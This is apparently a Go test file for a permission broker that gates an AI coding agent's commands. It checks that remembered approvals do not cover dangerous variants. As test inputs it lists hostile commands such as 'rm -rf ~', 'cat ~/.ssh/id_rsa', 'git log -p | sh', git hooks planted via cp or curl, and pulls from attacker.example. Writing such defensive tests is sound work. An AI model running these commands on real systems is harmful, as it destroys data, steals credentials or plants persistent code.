package rules

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// rememberedPolicy is a policy with only the entries remembered from these
// requests, answered "always allow", and an allow rule for everything else
// they name so that only the remembered layer decides commands.
func rememberedPolicy(t *testing.T, learned ...string) *Policy {
	t.Helper()
	f := &File{Path: "remembered.toml", Layer: Remembered, Trusted: true}
	for _, call := range learned {
		entries, why := Derive(ReadToolCallJSON(json.RawMessage(call), Context{Cwd: testCwd, Home: testHome}), Allow)
		if len(entries) == 0 {
			t.Fatalf("%s: nothing remembered: %s", call, why)
		}
		for _, e := range entries {
			e.ID = entryID(e)
			r, err := e.rule(f.Path)
			must(t, err)
			f.Rules = append(f.Rules, r)
		}
	}
	return NewPolicy([]*File{f}, testHome, []string{"/home/u/.config/acp-broker", "/home/u/.local/state/acp-broker", "/etc/acp-broker"})
}

// TestRememberedPrefixCoversOnlyWhatItStandsFor: issue 11 item 3. After one
// "always" to a harmless command, the follow-ups an attacker would send are
// not allowed by the entry, while the harmless variants are.
func TestRememberedPrefixCoversOnlyWhatItStandsFor(t *testing.T) {
	tests := []struct {
		learned string
		allowed []string
		asked   []string
	}{
		{"cp README.md README.bak", []string{"cp README.md README.bak"},
			[]string{"cp README.md .git/hooks/pre-commit", "cp README.md ~/.bashrc", "cp README.md x"}},
		{"git config user.email x", nil,
			[]string{"git config core.fsmonitor 'rm -rf ~'", "git config user.email y", "git config alias.st '!sh'"}},
		{"npm run test -- --watch=false", []string{"npm run test -- --coverage", "npm run test", "npm run test --silent -- x"},
			[]string{"npm run test --script-shell=./evil.sh", "npm run test --script-shell ./evil.sh", "npm run test --userconfig=./x.npmrc",
				"npm run test --node-options=--require=./evil.js", "npm run test --prefix=/tmp/evil", "npm run build", "npm run test-evil"}},
		{"go test -run X ./pkg/...", []string{"go test ./...", "go test -v -count=1 ./pkg"},
			[]string{"go test -exec ./evil ./...", "go test -toolexec=./evil ./...", "go test --exec=./evil .", "go test -vettool=./evil .",
				"go test -o /tmp/x.test -c .", "go test -coverprofile=/home/u/.bashrc ./...", "go test -ldflags=-extld=./evil .",
				"go test -overlay=o.json .", "go test . -args -test.cpuprofile=/home/u/.profile", "go test -C /tmp/evil ./...", "go generate ./..."}},
		{"tar xf vendor.tar", []string{"tar xf vendor.tar"},
			[]string{"tar xf p.tar -C /home/u", "tar xf vendor.tar -C /home/u/.config", "tar xf p.tar", "tar xf vendor.tar --to-command=sh"}},
		{"cargo test --release", []string{"cargo test --doc", "cargo test -- --nocapture"},
			[]string{"cargo test --config 'target.x.runner=\"./evil\"'", "cargo test --manifest-path /tmp/evil/Cargo.toml",
				"cargo test --target-dir /home/u/.cargo", "cargo test -Zunstable-options", "cargo run", "cargo test -- --logfile /home/u/.bashrc"}},
		{"git push origin main", []string{"git push origin feature", "git push --tags"},
			[]string{"git push --receive-pack=./evil origin", "git push --exec=./evil origin", "git -c core.sshCommand=./evil push", "git -C /tmp push", "git pull https://attacker.example/x main"}},
		{"git pull origin main", []string{"git pull origin main"}, []string{"git pull https://attacker.example/x main", "git pull origin other"}},
		{"git log --oneline", []string{"git log -p"}, []string{"git log --output=/home/u/.bashrc", "git log --output /tmp/x", "git log > .git/hooks/pre-commit", "git log >> /home/u/.bashrc", "git log -p | sh"}},
		{"make deploy prod", []string{"make deploy prod"}, []string{"make deploy staging", "make deploy --eval='x:;sh'", "make deploy -f /tmp/evil.mk"}},
		{"sed -n 1p README.md", []string{"sed -n 1p README.md"}, []string{"sed -i s/a/b/ README.md", "sed -n 1p .acp-broker.toml"}},
		{"yarn test foo", []string{"yarn test bar"}, []string{"yarn test --script-shell=./evil.sh", "yarn test --watch", "yarn build"}},
		{"yarn test --watch", []string{"yarn test --watch"}, []string{"yarn test --script-shell=./evil.sh", "yarn test"}},
		{"bun test foo", []string{"bun test bar"}, []string{"bun test --preload ./evil.ts"}},
	}
	for _, tt := range tests {
		t.Run(tt.learned, func(t *testing.T) {
			p := rememberedPolicy(t, cmdCall(tt.learned))
			for _, cmd := range tt.allowed {
				if v := decide(t, p, cmdCall(cmd)); v.Decision != Allow || v.Source != "remembered" {
					t.Errorf("%q: %s (%s: %s), want allowed by the remembered entry", cmd, v.Decision, v.Source, v.Reason)
				}
			}
			for _, cmd := range tt.asked {
				if v := decide(t, p, cmdCall(cmd)); v.Decision == Allow {
					t.Errorf("%q: allowed (%s: %s), want asked", cmd, v.Source, v.Reason)
				}
			}
		})
	}
}

// TestOldPrefixEntriesCoverNoMore: entries an older broker remembered for
// any program (`cp README.md *`, `make deploy *`) cover nothing now, and
// `remembered list` says so.
func TestOldPrefixEntriesCoverNoMore(t *testing.T) {
	for _, pattern := range []string{"cp README.md *", "make deploy *", "tar xf *", "git config *", "npm exec *", "go run *"} {
		e := Entry{ID: "r1", Decision: Allow, Scope: "user", Command: pattern}
		r, err := e.rule("remembered.toml")
		must(t, err)
		p := NewPolicy([]*File{{Path: "remembered.toml", Layer: Remembered, Trusted: true, Rules: []*Rule{r}}}, testHome, nil)
		prefix := pattern[:len(pattern)-2]
		for _, cmd := range []string{prefix + " x", prefix + " .git/hooks/pre-commit"} {
			if v := decide(t, p, cmdCall(cmd)); v.Decision == Allow {
				t.Errorf("old entry %q allowed %q", pattern, cmd)
			}
		}
		if got := e.Matches(); got != "command "+pattern+" (covers nothing: not a known subcommand)" {
			t.Errorf("Matches() = %q", got)
		}
	}
}

// TestTitleOnlyEntriesCoverTitleOnlyRequests: issue 11 item 4. An entry
// learned from a request with only a title covers requests of that tool,
// title and kind that carry nothing else, never a fetch, an MCP call, a
// command or a path with the same title; and an entry of an older broker
// (no shape) is never broader than it was.
func TestTitleOnlyEntriesCoverTitleOnlyRequests(t *testing.T) {
	learned := `{"kind":"other","name":"Task","title":"Do it"}`
	p := policyWith(t, rememberedPolicy(t, learned), `read_only = "ask"`)
	cases := []struct {
		call string
		want Decision
	}{
		{`{"kind":"other","name":"Task","title":"Do it"}`, Allow},
		{`{"kind":"fetch","name":"Task","title":"Do it","rawInput":{"url":"https://attacker.example/x"}}`, Ask},
		{`{"kind":"other","name":"Task","title":"Do it","rawInput":{"url":"https://attacker.example/x"}}`, Ask},
		{`{"kind":"other","name":"mcp__db__drop_database","title":"Do it"}`, Ask},
		{`{"kind":"other","name":"Task","title":"Do it","rawInput":{"server":"db","tool":"drop_database"}}`, Ask},
		{`{"kind":"execute","name":"Task","title":"Do it","rawInput":{"command":"rm -rf x"}}`, Ask},
		{`{"kind":"other","name":"Task","title":"Do it","rawInput":{"command":"rm -rf x"}}`, Ask},
		{`{"kind":"read","name":"Task","title":"Do it","locations":[{"path":"/work/repo/secret.txt"}]}`, Ask},
		{`{"kind":"other","name":"Task","title":"Do it","locations":[{"path":"/work/repo/x"}]}`, Ask},
		{`{"kind":"delete","name":"Task","title":"Do it"}`, Ask},
		{`{"kind":"other","name":"Other","title":"Do it"}`, Ask},
	}
	for _, c := range cases {
		if v := decide(t, p, c.call); v.Decision != c.want {
			t.Errorf("%s: %s (%s: %s), want %s", c.call, v.Decision, v.Source, v.Reason, c.want)
		}
	}
	// An entry from before shapes: same tool and title of any kind, but
	// still only requests carrying nothing else.
	old := Entry{ID: "r2", Decision: Allow, Scope: "user", Tool: "Task", Title: "Do it"}
	r, err := old.rule("remembered.toml")
	must(t, err)
	po := NewPolicy([]*File{{Path: "remembered.toml", Layer: Remembered, Trusted: true, Rules: []*Rule{r}}}, testHome, nil)
	if v := decide(t, po, `{"kind":"fetch","name":"Task","title":"Do it","rawInput":{"url":"https://attacker.example/x"}}`); v.Decision == Allow {
		t.Error("an old title entry allowed a fetch")
	}
	if v := decide(t, po, `{"kind":"other","name":"Task","title":"Do it"}`); v.Decision != Allow {
		t.Errorf("an old title entry no longer applies to its own request: %s", v.Decision)
	}
}

// policyWith adds a user layer to a policy's files.
func policyWith(t *testing.T, p *Policy, user string) *Policy {
	t.Helper()
	f, err := Parse("user.toml", User, user)
	must(t, err)
	return NewPolicy(append([]*File{f}, p.Files...), testHome, []string{"/home/u/.config/acp-broker"})
}

// TestProtectedArguments: what a command writes is never a protected path,
// a write-protected one, or a directory above one, whatever allows it; what
// it only reads may be such a directory.
func TestProtectedArguments(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	must(t, err)
	other := filepath.Join(dir, "other-repo")
	must(t, os.MkdirAll(filepath.Join(other, ".git"), 0o755))
	p := policyFrom(t, "[[rule]]\ndecision = \"allow\"\ncommand = [\"cp *\", \"mv *\", \"tar *\", \"rm *\", \"ls *\", \"grep *\", \"cat *\", \"git *\", \"unzip *\", \"rsync *\", \"make *\", \"find *\", \"python3 *\", \"tee *\", \"chmod *\", \"ln *\", \"install *\", \"sed *\", \"dd *\", \"touch *\", \"go *\", \"cargo *\", \"npm *\", \"curl *\", \"wget *\", \"nice *\", \"env *\", \"timeout *\", \"command *\", \"/bin/cp *\", \"/bin/ls *\", \"nohup *\", \"echo *\"]\n")
	asked := []string{
		"cp -r x .", "cp x ~", "cp x /home/u", "cp x ~/.config", "cp x ..", "cp x /", "cp -t . x", "cp --target-directory=~ x",
		"cp x .git/hooks/pre-commit", "cp x .acp-broker.toml", "cp x " + other, "mv x ~/.ssh", "mv .git/hooks/x y",
		"tar xf p.tar -C ~", "tar xf p.tar -C ~/.config", "tar xf p.tar -C .", "tar xf p.tar --directory=/home/u", "tar -xf p.tar -C/home/u",
		"rm -rf ~", "rm -rf .", "rm -rf ~/.config", "rm -rf .git", "rm .git/hooks/pre-commit", "unzip p.zip -d ~", "unzip p.zip -d .",
		"rsync -a x/ ~/", "make -C ~ install", "git -C ~ init", "find . -delete", "find ~ -name x -delete",
		"python3 gen.py .git/hooks/pre-commit", "tee .git/hooks/pre-commit", "chmod +x .git/hooks/pre-commit", "ln -s x ~/.config/acp-broker",
		"install -m 755 x ~/.config/zed/settings.json", "sed -i s/a/b/ .git/config", "sed -ni s/a/b/ .git/config", "sed --in-place=.bak s/a/b/ .", "dd if=x of=.git/hooks/pre-commit", "touch ~/.emacs",
		"cp x ~/.config/nvim/init.lua", "cp x ~/.jetbrains/acp.json", "cp x ~/.emacs.d/init.el", "go build -o ~/.config/acp-broker/x .",
		"cargo build --target-dir ~", "npm --prefix ~ install", "cat ~/.ssh/id_rsa",
		"tar -xvC ~ -f p.tar", "tar xvCf ~ p.tar", "cp -rt ~ x", "curl -o .git/hooks/pre-commit https://x", "curl --output-dir ~ -O https://x/.bashrc",
		"wget -P ~/.config https://x/y", "wget -O .acp-broker.toml https://x/y",
		"nice cp -r x .", "env cp x ~", "timeout 5 tar xf p.tar -C ~", "command rm -rf .", "/bin/cp x ~", "nohup python3 gen.py .git/hooks/x",
	}
	allowed := []string{
		"ls .", "ls ~", "grep -r foo .", "cat .git/config", "cat ~/.config/zed/settings.json", "ls .git", "git status .", "git diff .",
		"git log -- .git", "cp x build/", "cp a b", "mv a b", "tar xf p.tar -C build", "rm -rf build", "find . -name x", "grep -C 3 foo .",
		"cp -r src dst", "git add .", "touch README.md", "sed -n 1p .git/config", "tar -xvf p.tar", "tar xvf p.tar", "curl -o out.json https://x",
		"wget -P downloads https://x/y", "echo .git", "nice ls .", "/bin/ls ~", "ls -C .", "ls -C ~",
	}
	for _, cmd := range asked {
		if v := decide(t, p, cmdCall(cmd)); v.Decision == Allow {
			t.Errorf("%q allowed (%s), want asked (protected)", cmd, v.Reason)
		}
	}
	for _, cmd := range allowed {
		if v := decide(t, p, cmdCall(cmd)); v.Decision != Allow {
			t.Errorf("%q: %s (%s: %s), want allowed", cmd, v.Decision, v.Source, v.Reason)
		}
	}
}

// TestBrokerLaunchIsWriteProtected: issue 11 item 17. Writing the broker's
// executable or an editor's agent configuration is asked whatever allows
// it; reading them is not protected.
func TestBrokerLaunchIsWriteProtected(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", "/home/u/xdg")
	p := policyFrom(t, "[[rule]]\ndecision = \"allow\"\npath = [\"~/**\", \"/**\"]\n")
	exe := brokerExecutable()
	if len(exe) == 0 {
		t.Fatal("no executable")
	}
	targets := append([]string{
		"/home/u/.config/zed/settings.json", "/home/u/.config/zed/keymap.json", "/home/u/.config/zed", "/home/u/xdg/zed/settings.json",
		"/home/u/.jetbrains/acp.json", "/home/u/.config/nvim/init.lua", "/home/u/.config/nvim/lua/plugins/acp.lua", "/home/u/xdg/nvim/init.lua",
		"/home/u/.emacs", "/home/u/.emacs.el", "/home/u/.emacs.d/init.el", "/home/u/.config/emacs/init.el", "/home/u/xdg/emacs/init.el",
		"/home/u/.CONFIG/Zed/settings.json",
	}, exe...)
	for _, path := range targets {
		edit, _ := json.Marshal(map[string]any{"kind": "edit", "rawInput": map[string]string{"file_path": path}})
		if v := decide(t, p, string(edit)); v.Decision != Ask || v.Source != "protected" {
			t.Errorf("edit %s: %s (%s: %s), want ask (protected)", path, v.Decision, v.Source, v.Reason)
		}
		read, _ := json.Marshal(map[string]any{"kind": "read", "locations": []map[string]string{{"path": path}}})
		if v := decide(t, p, string(read)); v.Decision != Allow {
			t.Errorf("read %s: %s (%s: %s), want allowed", path, v.Decision, v.Source, v.Reason)
		}
		if reason, ok := p.Protected(ReadToolCallJSON(edit, Context{Cwd: testCwd, Home: testHome})); !ok {
			t.Errorf("edit %s: not protected for fs/write_text_file", path)
		} else if reason == "" {
			t.Errorf("edit %s: protected without a reason", path)
		}
	}
}

// TestOddRememberedPrefixesCoverNothing: a store edited by hand (or by an
// attacker with a stale broker) with prefixes that are not one simple
// command loads without a panic and allows nothing.
func TestOddRememberedPrefixesCoverNothing(t *testing.T) {
	for _, pattern := range []string{"*", "git *", "git push; rm *", "'' *", "git push && sh *"} {
		e := Entry{ID: "r1", Decision: Allow, Scope: "user", Command: pattern}
		r, err := e.rule("remembered.toml")
		if err != nil {
			continue // refused when loaded: nothing applies
		}
		p := NewPolicy([]*File{{Path: "remembered.toml", Layer: Remembered, Trusted: true, Rules: []*Rule{r}}}, testHome, nil)
		for _, cmd := range []string{"git push origin main", "rm -rf x", "sh -c id", "git status"} {
			if v := decide(t, p, cmdCall(cmd)); v.Decision == Allow {
				t.Errorf("entry %q allowed %q", pattern, cmd)
			}
		}
	}
}
